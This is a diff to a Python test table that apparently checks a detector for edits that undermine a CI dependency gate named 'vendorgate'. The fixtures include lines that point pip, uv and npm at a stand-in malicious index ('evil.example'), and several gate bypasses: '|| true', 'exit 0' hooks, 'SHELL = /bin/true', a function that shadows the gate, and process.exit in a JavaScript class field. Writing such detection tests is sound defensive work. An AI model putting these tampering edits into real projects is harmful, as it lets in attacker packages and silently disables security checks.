@@ -44,6 +44,16 @@ FILES = {
     "deps/docs.txt": "theme==1\n",
     "ci/gate.sh": "pip install -r 'deps/ci.txt' -c held.txt\nvendorgate check\n",
     "held.txt": "boto3<2\n",
+    "deps/packages.txt": "vendorgate==1.4.0\n",
+    "pipelines/folded.yml": "gate:\n  script: >\n    vendorgate check snapshot\n    --strict\n",
+    "tools/env.sh": "X=1\n",
+    "tools/sourcing.sh": ". tools/env.sh\nsource tools/local.sh\nvendorgate check\n",
+    "common.mk": "X = 1\n",
+    "ci/gate.mk": "-include common.mk\ngate:\n\tvendorgate check\n",
+    "tools/gate.js": "// vendorgate check\nclass A {\n}\n",
+    "tools/a.sh": "python -mchecker check\n",
+    "tools/b.sh": "python -Im checker check\n",
+    "tools/c.yml": 'run: ["python", "-m", "checker", "check"]\n',
     "README.md": "# House\nWe run `vendorgate check`.\n",
     "docs/CODEOWNERS": "* @sec\n",
 }  # fmt: skip
@@ -84,10 +94,26 @@ TABLE: list[tuple[str, Edit, set[str], set[str]]] = [
     ("a workflow is a link", {GATE: "-> ../../pipelines/gate.yml"}, {GATE}, {GATE}),
     ("a workflow is a link to its own copy", {GATE: "-> ../../copy.yml", "copy.yml": FILES[GATE]}, {GATE}, {GATE}),
     ("a new hook", {".husky/pre-commit": "exit 0\n"}, {".husky/pre-commit"}, set()),
-    ("a new local override of hooks", {"lefthook-local.yml": "pre-push: {}\n"}, {"lefthook-local.yml"}, set()),
+    ("a new local override of hooks", {"lefthook-local.yml": "pre-push: {}\n"}, {"lefthook-local.yml"}, {"lefthook-local.yml"}),
+    ("a file that Make prefers", {"GNUmakefile": "gate:\n\ttrue\n"}, {"GNUmakefile"}, {"GNUmakefile"}),
+    ("one that it prefers to one that runs no gate", {"web/GNUmakefile": "x:\n"}, {"web/GNUmakefile"}, set()),
+    *((f"a module that Python takes first, {path}", {path: "print('ok')\n"}, {path}, {path}) for path in (
+        "yaml.py", "argparse.py", "click/__init__.py", "json.so")),
+    ("a link in the gate's place", {"checker": "-> web"}, {"checker"}, {"checker"}),
+    ("a module that nobody imports", {"house.py": "x = 1\n"}, set(), set()),
+    ("pip's file of another name", {"deps/packages.txt": "-i https://evil.example\nvendorgate==1.4.0\n"}, {"deps/packages.txt"}, {"deps/packages.txt"}),
+    ("another program in it", {"deps/packages.txt": "vendorgate==1.4.0\nboto3\n"}, set(), set()),
+    ("requirements that take in the gate's alone", {"requirements-dev.txt": "-r requirements.txt\npytest\n"}, set(), set()),
+    ("comments that end within", but(GATE, "jobs:", "# why\rif: false\njobs:"), {GATE}, {GATE}),
+    ("an option in a comment of requirements", but("requirements.txt", "boto3==1.40.0", "# why\u2028-i https://evil.example\nboto3==1.40.0"), {"requirements.txt"}, {"requirements.txt"}),
+    ("a comment within a folded text", but("pipelines/folded.yml", "vendorgate", "# why\n    vendorgate"), {"pipelines/folded.yml"}, {"pipelines/folded.yml"}),
+    ("a comment that Make goes on with", but("Makefile", "gate:", "# why \\\ngate:"), {"Makefile"}, {"Makefile"}),
+    ("what is no comment in JavaScript", but("tools/gate.js", "class A {", "class A {\n#x = process.exit(0);"), {"tools/gate.js"}, {"tools/gate.js"}),
+    *((f"python {how} may fail", but(path, "check", "check || true"), {path}, {path}) for how, path in (("-mchecker", "tools/a.sh"), ("-Im checker", "tools/b.sh"), ("in a list", "tools/c.yml"))),
     ("another index for all manifests", {"uv.toml": '[[index]]\nurl = "https://evil.example"\n'}, {"uv.toml"}, {"uv.toml"}),
     ("another index in a project beside", {"pyproject.toml": '[[tool.uv.index]]\nurl = "https://evil.example"\n'}, {"pyproject.toml"}, {"pyproject.toml"}),
     ("a project beside", {"pyproject.toml": "[tool.ruff]\nline-length = 100\n"}, set(), set()),
+    *((f"a setting of {path} that decides nothing", {path: text}, set(), set()) for path, text in ((".npmrc", "save-exact=true\n"), ("pip.conf", "[global]\ntimeout = 60\n"))),
     ("another registry of npm", {".npmrc": "registry=https://evil.example\n"}, {".npmrc"}, {".npmrc"}),
     ("a registry for another folder", {"web/.npmrc": "registry=https://evil.example\n"}, set(), set()),
     ("requirements that include the gate's, from elsewhere", {"requirements-dev.txt": "--index-url https://evil.example\n-r requirements.txt\n"}, {"requirements-dev.txt"}, {"requirements-dev.txt"}),
@@ -102,6 +128,11 @@ TABLE: list[tuple[str, Edit, set[str], set[str]]] = [
     ("another program in what they include", {"deps/base.txt": "-r more.txt\nboto3==1.41.0\n"}, set(), set()),
     ("requirements that nothing includes", {"deps/docs.txt": "-i https://evil.example\n"}, set(), set()),
     ("what a script holds the gate to", {"held.txt": "vendorgate==0.1\n"}, {"held.txt"}, {"held.txt"}),
+    ("what a script takes in", {"tools/env.sh": "vendorgate() { :; }\n"}, {"tools/env.sh"}, {"tools/env.sh"}),
+    ("what a script would take in", {"tools/local.sh": "exit 0\n"}, {"tools/local.sh"}, {"tools/local.sh"}),
+    ("what Make includes", {"common.mk": "SHELL = /bin/true\n"}, {"common.mk"}, {"common.mk"}),
+    ("what nothing takes in", {"tools/other.sh": "exit 0\n"}, set(), set()),
+    ("what comes along with the gate, from elsewhere", but("requirements.txt", "boto3==1.40.0", "boto3 @ https://evil.example/x.whl"), {"requirements.txt"}, {"requirements.txt"}),
     ("an issue template", {".github/ISSUE_TEMPLATE/bug.md": "x\n"}, {".github/ISSUE_TEMPLATE/bug.md"}, set()),
     ("prose says otherwise", but("README.md", "check", "review"), {"README.md"}, set()),
     ("prose about something else", but("README.md", "# House", "# Home\nand more"), set(), set()),
@@ -129,7 +160,7 @@ def repository(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
 def edited(folder: Path, edit: Edit) -> None:
     for path, text in edit.items():
         if text and text.startswith("-> "):
-            (folder / path).unlink()
+            (folder / path).unlink(missing_ok=True)
             (folder / path).symlink_to(text.removeprefix("-> "))
         else:
             put(folder, path, text)
